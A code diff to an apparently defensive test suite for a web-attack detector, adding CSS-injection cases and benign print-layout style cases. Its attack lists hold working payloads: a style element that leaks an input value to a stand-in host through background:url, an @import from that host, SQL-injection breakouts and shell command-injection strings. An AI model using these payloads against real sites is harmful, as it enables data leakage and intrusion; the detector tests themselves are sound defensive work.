@@ -29,6 +29,11 @@ export const ATTACKS: DetectorCase[] = [
   j("a cursor's Base64 padding before the breakout", "MTA=' OR 1=1--", "942100"),
   q("a PostgREST operator's value breaking out", "in.(1,2) OR 1=1", "942100"),
   q("a PostgREST equality breaking out", "eq.x' OR '1'='1", "942100"),
+  // A style element that fetches, imports or hides what it calls is CSS injection still.
+  j("a style element that fetches", "<style>input[value^=a]{background:url(https://x.example/a)}</style>", "941130"),
+  j("a style element that imports", '<style>@import "https://x.example/a.css";</style>', "941130"),
+  j("an escape in a style element", "<style>a{b:\\75rl(x)}</style>", "941130"),
+  j("an unclosed style element", "<style>", "941130"),
   // A command cut off by a bare shell comment after a separator.
   j("an English-looking command ended by a comment", "/dev/null; id; #", "932100"),
   j("a command ended by && and a comment", "x && id && #", "932100"),
@@ -670,6 +675,12 @@ export const BENIGN: DetectorCase[] = [
     "a double-quoted literal holding an apostrophe",
     'customerEmail="sean.o\'connor@gmail.com" and createdAt > "2024-01-01"',
   ),
+  // A print layout's or a template's style element: formatting (the fifty-fifth pair's HTML-to-PDF).
+  j(
+    "a print layout's style element",
+    "<style>@page{size:A5 landscape;margin:10mm} td{padding:2px 8px}</style><p>Total</p>",
+  ),
+  j("a running footer's page counter", '<style>@page { @bottom-center { content: "Page " counter(page) } }</style>'),
   // A list or a hashtag after a separator is no shell comment.
   j("a list that ends in a hashtag", "name; id; #tag"),
   // Zapier's reference to an earlier step's output: a step id, two underscores and a field.
